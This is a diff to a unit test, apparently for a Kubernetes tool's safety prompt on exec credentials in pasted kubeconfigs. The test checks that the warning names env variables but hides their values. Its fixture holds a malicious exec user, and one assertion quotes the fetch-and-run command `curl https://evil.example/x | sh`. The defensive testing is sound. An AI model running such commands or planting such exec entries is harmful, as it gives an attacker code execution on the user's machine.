@@ -37,7 +37,7 @@ const config = (args: string): MergedKubeconfig =>
       path: '/home/u/.kube/added.yaml',
       text: [
         'clusters: [{name: c, cluster: {server: "https://c.example:6443"}}]',
-        `users: [{name: evil, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: /bin/sh, args: ${args}}}}]`,
+        `users: [{name: evil, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: /bin/sh, args: ${args}, env: [{name: EXFIL_TOKEN, value: b29-env-value-canary}]}}}]`,
         'contexts: [{name: pasted, context: {cluster: c, user: evil}}]',
         '',
       ].join('\n'),
@@ -175,6 +175,8 @@ describe('bad-input rows: exec credentials (unit)', () => {
     const asked = stub.asked.filter((a) => a.kind === 'warning').pop();
     assert.deepEqual((asked?.options as unknown[]).slice(1), ['Allow', 'Deny']);
     assert.match(asked?.detail ?? '', /\/bin\/sh -c 'curl https:\/\/evil\.example\/x \| sh'/);
+    assert.match(asked?.detail ?? '', /with env EXFIL_TOKEN/);
+    assert.ok(!(asked?.detail ?? '').includes('b29-env-value-canary'), 'env values are never shown');
     assert.equal(approvals.isDenied(key), true);
     assert.equal(approvals.isApproved(key), false);
     assert.equal(refreshed, 1);
